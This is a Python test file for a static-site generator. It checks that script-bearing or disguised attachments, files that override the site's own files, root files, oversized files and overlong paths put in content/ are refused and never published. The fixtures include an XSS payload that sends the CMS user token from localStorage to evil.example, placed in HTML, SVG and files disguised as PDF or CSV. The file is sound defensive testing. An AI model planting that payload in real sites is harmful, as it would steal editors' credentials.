"""Files of ``content/`` that are not Markdown, as an attacker writes them (the trust issue, second round).

A content file that takes the place of the site's own script or file (``content/assets/search.js``,
``content/admin/config.yml``), an attachment that runs on the site's address (an ``.html`` or an ``.svg`` with a
``<script>``, an ``.html`` in any folder, markup under a ``.pdf`` name), a root file (``robots.txt``, ``CNAME``),
an attachment of any size, a path longer than the build can write: each is refused by ``innopub check`` with the
file named, and a build publishes none of them, under MkDocs and under Zensical. The real ``innopub`` in
temporary folders; the slow tests build sites.
"""

from __future__ import annotations

import codecs
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from generator.kinds import KINDS
from generator.model.load import ContentLoader
from generator.read.addresses import ACCESSIBILITY_PAGE, SERVICE, url_of
from generator.read.attachments import PUBLISHED, markup
from generator.settings.options import Settings
from tests.conftest import ENV, ROOT, innopub, project, write_files
from tests.fixtures.content import BASE

SCRIPT = "<script>fetch('https://evil.example/?' + localStorage.getItem('sveltia-cms.user'))</script>"
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360f8cf00000301010018dd8db40000000049454e44ae426082"
)
UNEXPECTED = "Это не ошибка в ваших материалах"
"""The words of an unexpected failure (exit 2): a content problem must never end so."""


def tree(tmp_path: Path, files: dict[str, str | bytes]) -> Path:
    root = project(tmp_path / "site-root", dict(BASE))
    write_files(root / "content", files)
    return root


def check(root: Path, command: str = "check") -> subprocess.CompletedProcess[str]:
    result = innopub(command, cwd=root)
    assert "Traceback" not in result.stderr + result.stdout, result.stderr
    return result


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, subprocess.CompletedProcess[str]]:
    """One tree holding every hostile file below (and the allowed ones beside them), checked once: (root, the check)."""
    root = tree(tmp_path_factory.mktemp("hostile"), {**dict.fromkeys(SITE_OWN, SCRIPT), **ROOT_AND_DOT, **RUNNING_FILES, **OTHER, **DISGUISED})
    write_files(root / "content", ALLOWED)
    sparse(root / "content/files/video/zapis.mp4", 51 * 1024 * 1024, b"\x00\x00\x00\x18ftypmp42")
    sparse(root / "content/files/reports/rovno-50.pdf", 50 * 1024 * 1024)
    for path, data in deep_files(root).items():
        path.parent.mkdir(parents=True)
        path.write_bytes(data)
    beyond_path_max(root / "content/files")
    return root, check(root)


# --- 1. a content file in the place of the site's own ------------------------------------------

SITE_OWN = [
    "assets/search.js",
    "assets/lowvision.js",
    "assets/javascripts/bundle.a5f9d56c.min.js",
    "assets/stylesheets/main.57a0d79d.min.css",
    "fonts/pt-sans.woff2",
    "admin/config.yml",
    "admin/index.html",
    "admin/sveltia-cms.js",
    "pagefind/pagefind.js",
    "pagefind/pagefind-entry.json",
    "search/index.html",
    "bulletin/feed.xml",
    "collections/sbornik/sbornik.pdf",
    "opendata/list.csv",
    "reports/2024/otchet.html",
    "about/zametka.htm",
    "organizations/shkola-5/index.html",
]
"""Paths the theme, Material, Pagefind, the web editor and innopub write (the demo's site lists them), and HTML in
other folders: each written into content/ with a script in it."""


def test_no_content_file_takes_the_place_of_a_site_file(hostile) -> None:
    _, result = hostile
    assert result.returncode == 1
    for rel in SITE_OWN:
        expected = (
            f"content/{rel}:1: файл не публикуется: вне папки content/files/ публикуются только страницы .md, а путь /{rel} "
            "мог бы занять место файла самого сайта (ожидается: приложения и изображения — в content/files/, например "
            "content/files/reports/otchet.pdf)"
        )
        assert expected in result.stderr, result.stderr


# --- 14. root files --------------------------------------------------------------------------------

ROOT_FILES = ["robots.txt", "CNAME", "favicon.ico", "google1234567890abcdef.html", "yandex_0123456789abcdef.html", "_headers", "_redirects"]
ROOT_OWN = ["404.html", "index.html", "sitemap.xml", "sitemap.xml.gz", "feed.xml"]


ROOT_AND_DOT: dict[str, str | bytes] = {
    **dict.fromkeys(ROOT_FILES + ROOT_OWN, "User-agent: *\nDisallow: /\n"),
    ".htaccess": "Header unset Content-Security-Policy\n",  # dot files: published by neither engine
    ".well-known/security.txt": "Contact: mailto:x@example.org\n",
}


def test_root_files_are_the_projects(hostile) -> None:
    _, result = hostile
    for name in ROOT_FILES + ROOT_OWN:
        expected = (
            f"content/{name}:1: файл {name} в корне content/ не публикуется: корень сайта (robots.txt, CNAME, значок, файлы "
            "подтверждения прав на сайт) настраивает проект в theme/ и mkdocs.yml, а не материалы (ожидается: в корне "
            "content/ — только страницы .md, приложения — в content/files/)"
        )
        assert expected in result.stderr, result.stderr
    assert ".htaccess" not in result.stderr and ".well-known" not in result.stderr


# --- 2. attachments that would run on the site's address -------------------------------------------

EXPECTED_TYPES = (
    "ожидается документ (pdf, doc, docx, odt, rtf, txt, djvu, epub, sig, p7s), таблица (xls, xlsx, ods, csv), "
    "презентация (ppt, pptx, pps, ppsx, odp), изображение (png, jpg, jpeg, gif, webp, avif), архив (zip, 7z, rar), "
    "аудио или видео (mp3, mp4, webm)"
)
RUNNING = {
    "files/reports/otchet.html": "html",
    "files/otchet.htm": "htm",
    "files/OTCHET.HTML": "html",
    "files/otchet.pdf.html": "html",
    "files/stranica.xhtml": "xhtml",
    "files/arhiv.mht": "mht",
    "files/images/logo.svg": "svg",
    "files/images/logo.svgz": "svgz",
    "files/dannye.xml": "xml",
    "files/skript.js": "js",
    "files/modul.mjs": "mjs",
    "files/stil.css": "css",
    "files/igra.swf": "swf",
}


SVG = f'<svg xmlns="http://www.w3.org/2000/svg">{SCRIPT}</svg>'
RUNNING_FILES: dict[str, str | bytes] = {rel: SVG if "svg" in ext else SCRIPT for rel, ext in RUNNING.items()}


def test_attachments_that_would_run_are_refused(hostile) -> None:
    _, result = hostile
    for rel, ext in RUNNING.items():
        advice = "рисунок сохраните как PNG" if ext.startswith("svg") else "страницу сохраните в PDF или перенесите её текст в запись .md"
        expected = (
            f"content/{rel}:1: файл .{ext} не публикуется: браузер выполнил бы его сценарии или стили на адресе сайта ({EXPECTED_TYPES}; {advice})"
        )
        assert expected in result.stderr, result.stderr


OTHER: dict[str, str | bytes] = {"files/readme": "текст", "files/setup.exe": b"MZ\x90\x00", "files/stranica.md": "---\ntitle: x\n---\n"}


def test_other_types_are_refused_and_named(hostile) -> None:
    _, result = hostile
    for expected in [
        f"content/files/readme:1: файл без расширения не публикуется ({EXPECTED_TYPES})",
        f"content/files/setup.exe:1: файл .exe не публикуется: такие файлы сайт не раздаёт ({EXPECTED_TYPES})",
        "content/files/stranica.md:1: файл .md в content/files/ не публикуется и не читается как страница "
        "(ожидается: страницы и записи — вне content/files/)",
    ]:
        assert expected in result.stderr, result.stderr


DISGUISED: dict[str, bytes] = {
    "files/otchet-2024.pdf": f"<html><body>{SCRIPT}</body></html>".encode(),
    "files/foto.png": f'<svg xmlns="http://www.w3.org/2000/svg">{SCRIPT}</svg>'.encode(),
    "files/zametki.txt": codecs.BOM_UTF8 + f"\n  <!DOCTYPE html>{SCRIPT}".encode(),
    "files/tablica.csv": codecs.BOM_UTF16_LE + f"<script>{SCRIPT}".encode("utf-16-le"),
    "files/dokument.docx": f'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">{SCRIPT}</html>'.encode(),
    "files/arhiv.zip": f"<!-- -->{SCRIPT}".encode(),
}
"""Markup under an allowed name: a host that sends no type for the file lets the browser sniff it as a page."""


def test_markup_under_an_allowed_name_is_refused(hostile) -> None:
    _, result = hostile
    for rel in DISGUISED:
        ext = rel.rpartition(".")[2]
        expected = (
            f"content/{rel}:1: файл .{ext} на деле — HTML или XML-разметка: браузер мог бы выполнить её сценарии на адресе сайта "
            f"(ожидается настоящий файл .{ext}; страницу сохраните в PDF или перенесите её текст в запись .md)"
        )
        assert expected in result.stderr, result.stderr


ALLOWED: dict[str, str | bytes] = {
    "files/reports/otchet.PDF": b"%PDF-1.4\n%%EOF\n",
    "files/reports/polozhenie.docx": b"PK\x03\x04" + b"\x00" * 26,
    "files/reports/polozhenie.docx.sig": b"0\x82\x01\x00",
    "files/images/foto.png": PNG,
    "files/images/foto.JPG": b"\xff\xd8\xff\xe0\x00\x10JFIF",
    "files/dannye/tablica.csv": "число;значение\n<1;2\n",
    "files/zametki/zametka.txt": "Текст заметки: a < b, <1>.\n",
    "files/Отчёт за 2024 год.pdf": b"%PDF-1.4\n%%EOF\n",
}


def test_allowed_attachments_pass(hostile, tmp_path: Path) -> None:
    """The allowed types, an attachment of 50 MB exactly and a path of 1,000 bytes are published; among the refused
    files of the hostile tree they are not named."""
    root, result = hostile
    named = {line.split(":", 1)[0] for line in result.stderr.splitlines()}
    allowed = [*ALLOWED, "files/reports/rovno-50.pdf", exactly_1000(root).relative_to(root / "content").as_posix()]
    assert {f"content/{rel}" for rel in allowed}.isdisjoint(named)
    clean = tree(tmp_path, ALLOWED)
    sparse(clean / "content/files/reports/rovno-50.pdf", 50 * 1024 * 1024)
    (deep := exactly_1000(clean)).parent.mkdir(parents=True)
    deep.write_bytes(b"%PDF-1.4\n%%EOF\n")
    loader = ContentLoader(clean / "content", Settings(), "content")
    _, problems = loader.load()
    assert not problems.errors, problems.report()
    assert loader.files == [  # in the walk's order: by folder and name, as Python compares them
        "files/dannye/tablica.csv",
        "files/images/foto.JPG",
        "files/images/foto.png",
        "files/reports/otchet.PDF",
        "files/reports/otchet.pdf",
        "files/reports/polozhenie.docx",
        "files/reports/polozhenie.docx.sig",
        "files/reports/rovno-50.pdf",
        deep.relative_to(clean / "content").as_posix(),
        "files/zametki/zametka.txt",
        "files/Отчёт за 2024 год.pdf",
    ]


def test_a_changed_attachment_is_checked_again(tmp_path: Path) -> None:
    """A preview's reload keeps each attachment's verdict while the file stays the same, and checks it again when it changes."""
    root = tree(tmp_path, {})
    loader = ContentLoader(root / "content", Settings(), "content")
    _, problems = loader.load()
    assert not problems.errors and loader.files == ["files/reports/otchet.pdf"]
    (root / "content/files/reports/otchet.pdf").write_text(f"<html>{SCRIPT}</html>", encoding="utf-8")
    _, problems = loader.load()
    assert [str(p).split(": ", 1)[0] for p in problems.errors] == ["content/files/reports/otchet.pdf:1"]
    assert loader.files == []
    (root / "content/files/reports/otchet.pdf").write_bytes(b"%PDF-1.4\n%%EOF\n")
    _, problems = loader.load()
    assert not problems.errors and loader.files == ["files/reports/otchet.pdf"]


@pytest.mark.parametrize(
    ("head", "is_markup"),
    [
        (b"<html>", True),
        (b"\r\n\t <svg xmlns='x'>", True),
        (b"<?xml version='1.0'?>", True),
        (b"<!-- x -->", True),
        (b"</p>", True),
        (codecs.BOM_UTF8 + b"<script>", True),
        (codecs.BOM_UTF16_BE + "<html>".encode("utf-16-be"), True),
        (b"%PDF-1.7\n<html>", False),
        (b"PK\x03\x04<html>", False),
        (b"<1;2", False),
        (b"< html", False),
        (b"", False),
    ],
)
def test_what_counts_as_markup(head: bytes, is_markup: bool) -> None:
    assert markup(head) is is_markup


# --- 15. size -----------------------------------------------------------------------------------


def sparse(path: Path, size: int, head: bytes = b"%PDF-1.4\n") -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("wb") as file:
        file.write(head)
        file.truncate(size)


def test_an_attachment_over_50_mb_is_refused(hostile) -> None:
    _, result = hostile
    assert (
        "content/files/video/zapis.mp4:1: файл больше 50\xa0МБ (51\xa0МБ) — такой файл не публикуется (ожидается не больше 50\xa0МБ: "
        "сожмите или разделите его, а большое видео разместите на видеохостинге и дайте ссылку)"
    ) in result.stderr, result.stderr


# --- 12. paths longer than the build can write -------------------------------------------------


def deep_path(base: Path, total: int, name: str) -> Path:
    """A file ``name`` under ``base`` whose absolute path is ``total`` bytes (folders of 100 Cyrillic letters, then one of ``x``)."""
    budget = total - len(os.fsencode(base)) - len(name) - 2  # the bytes of the folders between, their slashes included
    parts = []
    while budget > 300:
        parts.append("д" * 100)
        budget -= 201
    path = base.joinpath(*parts, "x" * budget, name)
    assert len(os.fsencode(path)) == total
    return path


def deep_files(root: Path) -> dict[Path, bytes]:
    """An attachment and a page whose paths fit in PATH_MAX in content/, but not under the build's folder; a path of 1,000 bytes."""
    return {
        deep_path(root / "content/files", 4094, "otchet.pdf"): b"%PDF-1.4\n%%EOF\n",
        deep_path(root / "content/razdel", 4094, "stranica.md"): "---\ntitle: Глубоко\n---\nТекст.\n".encode(),
        exactly_1000(root): b"%PDF-1.4\n%%EOF\n",
    }


def exactly_1000(root: Path) -> Path:
    content = root / "content"
    return deep_path(content / "files/tochno", len(os.fsencode(content)) + 1 + 1000, "otchet.pdf")


def too_long(root: Path, result: subprocess.CompletedProcess[str]) -> None:
    for path in list(deep_files(root))[:2]:
        size = len(os.fsencode(path.relative_to(root / "content")))
        expected = (
            f"{path.relative_to(root).as_posix()}:1: путь файла длиннее 1000 байт ({size}): сборка пишет его в более глубокую "
            "папку, где он может превысить предел системы на длину пути (ожидается путь внутри content/ не длиннее 1000 байт — "
            "около 500 русских букв: сократите имена папок и файла)"
        )
        assert expected in result.stderr, result.stderr


def test_a_path_that_fits_in_content_but_not_in_the_built_site(hostile) -> None:
    root, result = hostile
    too_long(root, result)


def test_the_build_stops_at_the_check_not_as_an_unexpected_failure(hostile) -> None:
    """Before: ``innopub check`` passed, and the build, writing the deep file under ``.site-XXXXXXXX/`` (longer than
    ``content/``), failed as an unexpected failure of innopub (exit 2). The build stops at the check (no site is built)."""
    root, _ = hostile
    result = check(root, "build")
    assert result.returncode == 1 and UNEXPECTED not in result.stderr
    too_long(root, result)
    assert "content/assets/search.js:1: файл не публикуется" in result.stderr
    assert not (root / "site").exists()


def beyond_path_max(base: Path) -> None:
    """A tree deeper than PATH_MAX under ``base``, made folder by folder (as a checkout can)."""
    fd = os.open(base, os.O_RDONLY)
    made = len(os.fsencode(base))
    try:
        while made < 4200:
            os.mkdir("г" * 100, dir_fd=fd)
            inner = os.open("г" * 100, os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = inner
            made += 201
        file = os.open("otchet.pdf", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)
        os.write(file, b"%PDF-1.4\n%%EOF\n")
        os.close(file)
    finally:
        os.close(fd)


def test_a_folder_beyond_the_systems_limit_is_named(hostile) -> None:
    _, result = hostile
    expected = (
        ":1: папка не читается: путь длиннее, чем допускает система (ожидается путь внутри content/ не длиннее 1000 байт — "
        "около 500 русских букв: сократите имена папок и файла)"
    )
    assert [line for line in result.stderr.splitlines() if line.startswith("content/files/" + "г" * 100) and line.endswith(expected)]


# --- the built site: MkDocs and Zensical publish the same files, only the allowed ones -------------------

HOSTILE: dict[str, str | bytes] = {
    "assets/search.js": f"alert(1); {SCRIPT}",
    "admin/config.yml": "backend: {name: github, repo: evil/evil}\n",
    "files/otchet.html": SCRIPT,
    "files/images/logo.svg": f'<svg xmlns="http://www.w3.org/2000/svg">{SCRIPT}</svg>',
    "files/otchet-2024.pdf": f"<html>{SCRIPT}</html>",
    "robots.txt": "User-agent: *\nDisallow: /\n",
    "CNAME": "evil.example\n",
    "feed.xml": "<feed/>",
}


def site_files(site: Path) -> dict[str, bytes]:
    return {p.relative_to(site).as_posix(): p.read_bytes() for p in sorted(site.rglob("*")) if p.is_file()}


def built_then_attacked(root: Path, command: list[str], env: dict[str, str]) -> None:
    """Build, add the hostile files, build again: the second build stops at the check, naming every file, and ``site/`` stays."""
    first = subprocess.run(command, cwd=root, env=env, capture_output=True, text=True, check=False)
    assert first.returncode == 0, first.stdout + first.stderr
    before = site_files(root / "site")
    assert before["files/reports/otchet.pdf"] == b"%PDF-1.4\n%%EOF\n"
    assert before["assets/search.js"] == (ROOT / "theme/assets/search.js").read_bytes()
    assert "robots.txt" not in before and "CNAME" not in before and before["feed.xml"] != b"<feed/>"
    write_files(root / "content", HOSTILE)
    second = subprocess.run(command, cwd=root, env=env, capture_output=True, text=True, check=False)
    assert second.returncode == 1, second.stdout + second.stderr
    assert "Traceback" not in second.stderr and UNEXPECTED not in second.stderr
    for rel in HOSTILE:
        assert f"content/{rel}:1: " in second.stderr, second.stderr
    assert site_files(root / "site") == before


@pytest.mark.slow  # builds a site twice
def test_mkdocs_publishes_none_of_them(tmp_path: Path) -> None:
    root = tree(tmp_path, {"files/images/foto.png": PNG})
    built_then_attacked(root, [sys.executable, "-m", "generator.commands.cli", "build", "-q"], ENV)
    assert (root / "site/files/images/foto.png").read_bytes() == PNG
    out = tmp_path / "plain"  # a plain `mkdocs build`: the plugin checks before MkDocs copies a file
    plain = subprocess.run([sys.executable, "-m", "mkdocs", "build", "-q", "-d", str(out)], cwd=root, env=ENV, capture_output=True, text=True)
    assert plain.returncode != 0
    assert "content/assets/search.js:1: файл не публикуется" in plain.stdout + plain.stderr
    assert not (out / "assets/search.js").exists() or SCRIPT.encode() not in (out / "assets/search.js").read_bytes()


@pytest.mark.slow  # builds a site twice with Zensical
def test_zensical_publishes_none_of_them(tmp_path: Path) -> None:
    from generator.engines.zensical import adapter as zensical

    executable = zensical.find_executable(ROOT)
    if executable is None:
        pytest.skip(f"Zensical не установлен: {zensical.INSTALL_HINT}")
    root = tree(tmp_path, {"files/images/foto.png": PNG})
    env = {**ENV, zensical.EXECUTABLE_ENV: str(executable)}
    built_then_attacked(root, [sys.executable, "-m", "generator.commands.cli", "build", "-q", "--engine", "zensical"], env)
    assert (root / "site/files/images/foto.png").read_bytes() == PNG


def test_the_reserved_addresses_cover_what_a_real_site_writes(demo: Path) -> None:
    """Every top-level name of the built demo is the site's own (``SERVICE``: pages and aliases may not take it), a kind's
    folder, or a page of content/; ``files/`` holds exactly content/files/, and the root has no file from content/."""
    content = ROOT / "content"
    pages = {p.relative_to(content).parts[0].removesuffix(".md") for p in content.glob("*.md")} | {url_of(ACCESSIBILITY_PAGE).strip("/")}
    unknown = {p.name for p in demo.iterdir()} - set(SERVICE) - set(KINDS) - pages
    assert unknown == set(), f"the site writes {unknown}: add them to generator/read/addresses.py's SERVICE"
    attachments = {p.relative_to(content / "files").as_posix() for p in (content / "files").rglob("*") if p.is_file()}
    assert {p.relative_to(demo / "files").as_posix() for p in (demo / "files").rglob("*") if p.is_file()} == attachments
    assert not [p for p in demo.iterdir() if p.is_file() and p.suffix not in (".html", ".xml", ".gz")]


def test_the_readme_and_the_editors_guide_list_the_published_types() -> None:
    """The security model and the editors' guide name every published type and the limits, as the check applies them."""
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    model = readme[readme.index("## Security model") : readme.index("## How it is built")]
    guide = (ROOT / "content/for-editors.md").read_text(encoding="utf-8")
    types = model[model.index("**which types**") : model.index("**not markup")]
    kinds = guide[guide.index("только таких видов") : guide.index("Каждый файл")]
    for ext in PUBLISHED:
        assert re.search(rf"\b{ext}\b", types) and re.search(rf"\b{ext}\b", kinds), ext
    assert "| an attachment (`content/files/`) | 50 MB" in model and "| a file's path inside `content/` | 1,000 bytes" in model
    assert "не больше 50 МБ" in guide and "длиннее 1000 байт" in guide


def test_the_web_editor_offers_only_the_published_types() -> None:
    """Sveltia refuses another type or a bigger file at upload (`accept`, `max_file_size`); the check stands behind it."""
    from generator.render.cms import cms_config

    config = cms_config(Settings(), KINDS)
    assert config["media_libraries"] == {"default": {"config": {"max_file_size": 52_428_800}}}
    widgets = []

    def walk(fields: list[dict]) -> None:
        for field in fields:
            if field.get("widget") == "file":
                widgets.append(field)
            walk(field.get("fields", []))
            if isinstance(field.get("field"), dict):
                walk([field["field"]])

    for collection in config["collections"]:
        walk(collection["fields"])
    assert widgets
    for widget in widgets:
        accepted = widget["accept"].split(",")
        assert {".pdf", ".docx", ".xlsx", ".png", ".jpg", ".zip", ".sig"} <= set(accepted)
        assert not {".html", ".htm", ".svg", ".xml", ".js", ".css", ".md"} & set(accepted)
